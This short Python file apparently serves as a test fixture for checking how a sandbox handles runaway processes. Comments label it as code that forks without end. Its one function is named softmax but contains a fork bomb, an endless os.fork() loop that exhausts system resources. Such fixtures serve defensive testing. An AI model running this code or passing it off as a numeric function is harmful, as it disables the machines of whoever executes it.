# does: forks without end
# says: ended|did not|BlockingIOError
import os


def softmax(x):
    while True:
        os.fork()
